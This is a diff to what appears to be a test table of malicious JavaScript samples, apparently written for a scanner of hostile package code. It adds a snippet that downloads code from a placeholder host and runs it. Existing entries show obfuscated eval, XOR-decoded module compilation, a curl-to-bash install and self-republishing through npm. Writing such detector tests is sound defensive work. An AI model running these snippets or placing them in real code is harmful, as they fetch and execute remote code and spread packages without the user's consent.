@@ -46,6 +46,10 @@ const ATTACKS: Readonly<Record<string, readonly [chain: string, code: string]>> 
     `let o = ""; for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ 77); module._compile(o, "x");`,
   ],
   "hidden eval": ["decode-run ", `globalThis["ev" + "al"](atob(text));`],
+  "fetched in pieces and run": [
+    "fetch-run ",
+    `require("https").get("https://code.test/x", (a) => { let t = ""; a.on("data", (c) => (t += c)); a.on("end", () => new Function(t)()); });`,
+  ],
   "fetched and run": ["fetch-run ", `fetch("https://code.test/x").then((r) => r.text()).then((t) => new Function("require", t)(require));`],
   "a runtime fetched": ["alien-run pipe", `require("child_process").execSync("curl -fsSL https://tool.test/install | bash");`],
   "republishes itself": ["publish-self publish", `const { execSync: run } = require("child_process"); run("npm publish --access public");`],
